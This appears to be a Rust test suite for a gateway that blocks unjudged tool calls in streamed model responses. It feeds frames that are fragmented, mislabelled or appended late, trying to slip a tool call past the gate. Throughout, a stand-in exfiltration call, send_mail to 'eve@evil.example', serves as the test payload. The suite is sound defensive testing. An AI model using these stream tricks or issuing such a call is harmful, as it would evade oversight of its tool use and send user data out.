//! Tool calls in pieces, as providers split them and as an attacker could: no client runs a call that was not judged.

use std::fmt::Write as _;

use ombud_core::gate::Gate;
use rstest::rstest;
use serde_json::{Value, json};

use super::harness::*;

const EVIL: &str = r#"{"to": "eve@evil.example", "body": "all of it"}"#;

/// Returns what the client receives for these frames, with some tools offered.
async fn streamed(path: &str, frames: &[Value]) -> String {
    let mut bytes = String::new();
    for frame in frames {
        write!(bytes, "data: {frame}\n\n").unwrap();
    }
    let rig =
        Rig::with(move |_, _| events(bytes.clone()), |config| config.tools.mode = Some(Gate::Block)).await;
    let tool = |name: &str| json!({ "type": "function", "name": name, "function": { "name": name, "parameters": {} } });
    let tools: Vec<Value> = ["get_time", "send_mail", "pay"].map(tool).to_vec();
    let field = if path.ends_with("responses") { "input" } else { "messages" };
    let said = json!([{ "role": "user", "content": "what time is it?" }]);
    let body = json!({ "model": "m", "stream": true, field: said, "tools": tools });
    rig.post(path, body.to_string()).await.text().await.unwrap()
}

async fn chat(frames: &[Value]) -> String {
    streamed("/v1/chat/completions", frames).await
}

fn piece(id: Option<&str>, name: Option<&str>, arguments: &str) -> Value {
    piece_ending(id, name, arguments, &Value::Null)
}

fn piece_ending(id: Option<&str>, name: Option<&str>, arguments: &str, finish: &Value) -> Value {
    let call = json!({ "index": 0, "id": id, "type": "function", "function": { "name": name, "arguments": arguments } });
    json!({ "choices": [{ "index": 0, "delta": { "tool_calls": [call] }, "finish_reason": finish }] })
}

fn finish(reason: &str) -> Value {
    json!({ "choices": [{ "index": 0, "delta": {}, "finish_reason": reason }] })
}

fn is_released(got: &str, tool: &str) -> bool {
    got.contains("\"tool_calls\":[") && got.contains(tool) && !got.contains("ombud_frame_not_readable")
}

#[tokio::test(flavor = "multi_thread")]
async fn an_empty_name_and_id_say_nothing() {
    let (a, b) = EVIL.split_at(10);
    let got =
        chat(&[piece(Some("c1"), Some("send_mail"), a), piece(Some(""), Some(""), b), finish("tool_calls")])
            .await;
    assert!(!got.contains("\"tool_calls\":[") && got.contains("send_mail"), "{got}");
    let got = chat(&[
        piece(Some("c1"), Some("get_time"), "{"),
        piece(Some(""), Some(""), "}"),
        finish("tool_calls"),
    ])
    .await;
    assert!(is_released(&got, "get_time"), "{got}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_empty_finish_reason_ends_nothing() {
    let none = json!("");
    let (a, b) = EVIL.split_at(10);
    let got = chat(&[
        piece_ending(Some("c1"), Some(""), "", &none),
        piece_ending(None, Some("send_mail"), a, &none),
        piece_ending(None, None, b, &none),
        finish("tool_calls"),
    ])
    .await;
    assert!(!got.contains("\"tool_calls\":[") && got.contains("send_mail"), "{got}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_call_without_a_name_is_never_released() {
    let got =
        chat(&[piece(Some("c1"), None, EVIL), finish("tool_calls"), piece(None, Some("send_mail"), "")])
            .await;
    assert!(got.contains("ombud_frame_not_readable") && !got.contains("evil.example"), "{got}");
    let got = chat(&[
        piece(Some("c1"), Some("get_time"), ""),
        finish("tool_calls"),
        piece(None, None, "{\"to\":\"eve@evil.example\"}"),
    ])
    .await;
    assert!(got.contains("ombud_frame_not_readable") && !got.contains("evil.example"), "{got}");
    let nothing = json!({ "choices": [{ "index": 0, "delta": { "content": "Hm.", "function_call": null, "tool_calls": null } }] });
    let got = chat(&[nothing, finish("stop")]).await;
    assert!(got.contains("Hm.") && !got.contains("ombud_"), "{got}");
}

#[rstest]
#[case(&["pay", "get_time"], false)]
#[case(&["get_time", "pay"], false)]
#[case(&["get_time", "_of_day"], false)]
#[case(&["get_", "time"], true)]
#[case(&["get_time", "get_time"], true)]
#[case(&["get", "_", "time"], true)]
#[tokio::test(flavor = "multi_thread")]
async fn a_name_in_pieces_is_one_that_every_client_reads_alike(
    #[case] names: &[&str],
    #[case] released: bool,
) {
    let mut frames: Vec<Value> = names.iter().map(|name| piece(Some("c1"), Some(name), "")).collect();
    frames.extend([piece(None, None, "{}"), finish("tool_calls")]);
    let got = chat(&frames).await;
    assert_eq!(is_released(&got, names[0]), released, "{got}");
    assert_eq!(got.contains("ombud_frame_not_readable"), !released, "{got}");
}

#[tokio::test(flavor = "multi_thread")]
async fn another_id_at_the_same_index_is_another_call() {
    let calls = |first: &str, second: &str| {
        let call = |id: &str, name: &str, arguments: &str| json!({ "index": 0, "id": id, "function": { "name": name, "arguments": arguments } });
        let both = [call("a", "get_time", first), call("b", "send_mail", second)];
        let together = vec![
            json!({ "choices": [{ "index": 0, "delta": { "tool_calls": both }, "finish_reason": null }] }),
            finish("tool_calls"),
        ];
        let apart = vec![
            piece(Some("a"), Some("get_time"), first),
            piece(Some("b"), Some("send_mail"), second),
            finish("tool_calls"),
        ];
        [together, apart]
    };
    for frames in calls("{}", EVIL) {
        let got = chat(&frames).await;
        assert!(is_released(&got, "get_time") && !got.contains("\"id\":\"b\""), "{got}");
        assert!(got.contains("send_mail") && got.contains("\"id\":\"a\""), "{got}");
    }
    // A client that relies on the index alone would give the second call's arguments to the first.
    for frames in calls("", EVIL) {
        let got = chat(&frames).await;
        assert!(got.contains("ombud_frame_not_readable"), "{got}");
    }
}

#[rstest]
#[case::completed("response.completed")]
#[case::done("response.output_item.done")]
#[tokio::test(flavor = "multi_thread")]
async fn a_call_of_a_response_keeps_its_tool(#[case] kind: &str) {
    let item =
        |name: &str| json!({ "type": "function_call", "call_id": "c", "name": name, "arguments": EVIL });
    let begun = json!({ "type": "function_call", "call_id": "c", "name": "get_time", "arguments": "" });
    let done = json!({ "type": "response.output_item.done", "output_index": 0, "item": item("get_time") });
    let frame = match kind {
        "response.completed" => {
            json!({ "type": kind, "response": { "status": "completed", "output": [item("send_mail")] } })
        }
        _ => json!({ "type": kind, "output_index": 0, "item": item("send_mail") }),
    };
    let mut frames = vec![
        json!({ "type": "response.output_item.added", "output_index": 0, "item": begun }),
        json!({ "type": "response.function_call_arguments.delta", "output_index": 0, "delta": EVIL }),
    ];
    frames.extend((kind == "response.completed").then_some(done));
    frames.push(frame);
    let got = streamed("/v1/responses", &frames).await;
    assert!(!got.contains("\"name\":\"send_mail\""), "{got}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_response_says_its_arguments_alike() {
    let begun = json!({ "type": "function_call", "call_id": "c", "name": "get_time", "arguments": "" });
    let item = json!({ "type": "function_call", "call_id": "c", "name": "get_time", "arguments": "{}" });
    let frames = |said: &str| {
        [
            json!({ "type": "response.output_item.added", "output_index": 0, "item": begun }),
            json!({ "type": "response.function_call_arguments.delta", "output_index": 0, "delta": "{}" }),
            json!({ "type": "response.function_call_arguments.done", "output_index": 0, "arguments": said }),
            json!({ "type": "response.output_item.done", "output_index": 0, "item": item }),
            json!({ "type": "response.completed", "response": { "status": "completed", "output": [item] } }),
        ]
    };
    assert!(streamed("/v1/responses", &frames("{}")).await.contains("\"name\":\"get_time\""));
    let got = streamed("/v1/responses", &frames(EVIL)).await;
    assert!(!got.contains("\"name\":\"get_time\""), "{got}");
    let whole = json!({ "type": "function_call", "call_id": "c", "name": "send_mail", "arguments": EVIL });
    for kind in ["response.created", "response.in_progress"] {
        let got =
            streamed("/v1/responses", &[json!({ "type": kind, "response": { "output": [whole] } })]).await;
        assert!(got.contains("ombud_frame_not_readable") && !got.contains("evil.example"), "{got}");
    }
}

#[rstest]
#[case::text(json!(EVIL))]
#[case::list(json!([EVIL]))]
#[case::object(json!({ "to": "eve@evil.example" }))]
#[tokio::test(flavor = "multi_thread")]
async fn a_block_may_begin_with_its_arguments(#[case] input: Value) {
    let block = json!({ "type": "tool_use", "id": "t", "name": "get_time", "input": input });
    let got = streamed(
        "/v1/messages",
        &[
            json!({ "type": "content_block_start", "index": 0, "content_block": block }),
            json!({ "type": "content_block_delta", "index": 0, "delta": { "type": "input_json_delta", "partial_json": "{}" } }),
            json!({ "type": "content_block_stop", "index": 0 }),
            json!({ "type": "message_stop" }),
        ],
    )
    .await;
    assert!(!got.contains("tool_use"), "{got}");
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_added_to_a_block_that_ended() {
    let block = json!({ "type": "tool_use", "id": "t", "name": "get_time", "input": {} });
    let got = streamed(
        "/v1/messages",
        &[
            json!({ "type": "content_block_start", "index": 0, "content_block": block }),
            json!({ "type": "content_block_stop", "index": 0 }),
            json!({ "type": "content_block_delta", "index": 0, "delta": { "type": "input_json_delta", "partial_json": EVIL } }),
            json!({ "type": "message_stop" }),
        ],
    )
    .await;
    assert!(got.contains("tool_use") && got.contains("ombud_frame_not_readable"), "{got}");
    assert!(!got.contains("evil.example"), "{got}");
}

/// Joins the strings at a JSON pointer in the frames of a stream.
fn said(text: &str, pointer: &str) -> String {
    let frames = text.split("\n\n").filter_map(|frame| frame.strip_prefix("data: "));
    let frames = frames.filter_map(|data| serde_json::from_str::<Value>(data).ok());
    frames.filter_map(|frame| frame.pointer(pointer).and_then(Value::as_str).map(str::to_owned)).collect()
}

/// Returns what the client receives for these frames after a phone number was masked, so that a trailing letter may begin its
/// token.
async fn masked(frames: &[Value]) -> String {
    let bytes = frames.iter().map(|frame| format!("data: {frame}\n\n")).collect::<Vec<_>>().concat();
    let rig =
        Rig::with(move |_, _| events(bytes.clone()), |config| config.tools.mode = Some(Gate::Block)).await;
    let tool = |name: &str| json!({ "type": "function", "function": { "name": name, "parameters": {} } });
    let said = json!([{ "role": "user", "content": format!("what time is it? {PHONE}") }]);
    let tools = json!([tool("get_time"), tool("send_mail")]);
    let body = json!({ "model": "m", "stream": true, "messages": said, "tools": tools });
    rig.post("/v1/chat/completions", body.to_string()).await.text().await.unwrap()
}

#[rstest]
#[case::together(false)]
#[case::before(true)]
#[tokio::test(flavor = "multi_thread")]
async fn words_that_wait_come_before_a_call_and_nothing_comes_twice(#[case] before: bool) {
    for (tool, arguments, released) in [("get_time", "{}", true), ("send_mail", EVIL, false)] {
        let call = json!([{ "index": 0, "id": "c", "type": "function", "function": { "name": tool, "arguments": arguments } }]);
        let frame = |delta: Value| json!({ "id": "x", "choices": [{ "index": 0, "delta": delta, "finish_reason": null }], "usage": { "total_tokens": 3 } });
        let mut frames = if before {
            vec![frame(json!({ "content": "to the top" })), frame(json!({ "tool_calls": call }))]
        } else {
            vec![frame(json!({ "content": "to the top", "tool_calls": call }))]
        };
        frames.push(finish("tool_calls"));
        let got = masked(&frames).await;
        // Alone in a frame, the last letter was held back.
        assert_eq!(got.contains("\"to the to\""), before, "{got}");
        let words = said(&got, "/choices/0/delta/content");
        assert!(words.starts_with("to the top"), "{got}");
        assert_eq!(words == "to the top", released, "{got}");
        assert_eq!(
            said(&got, "/choices/0/delta/tool_calls/0/function/name"),
            if released { tool } else { "" }
        );
        assert_eq!(got.matches("total_tokens").count(), frames.len() - 1, "{got}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn reasoning_that_waits_comes_before_the_answer() {
    let frame = |delta: Value| json!({ "choices": [{ "index": 0, "delta": delta, "finish_reason": null }] });
    let got = masked(&[
        frame(json!({ "reasoning_content": "to the top" })),
        frame(json!({ "reasoning_content": null, "content": "Yes." })),
        finish("stop"),
    ])
    .await;
    assert!(got.contains("\"to the to\""), "{got}");
    assert_eq!(said(&got, "/choices/0/delta/reasoning_content"), "to the top", "{got}");
    assert!(got.rfind("reasoning_content\":\"").unwrap() < got.find("Yes.").unwrap(), "{got}");
}
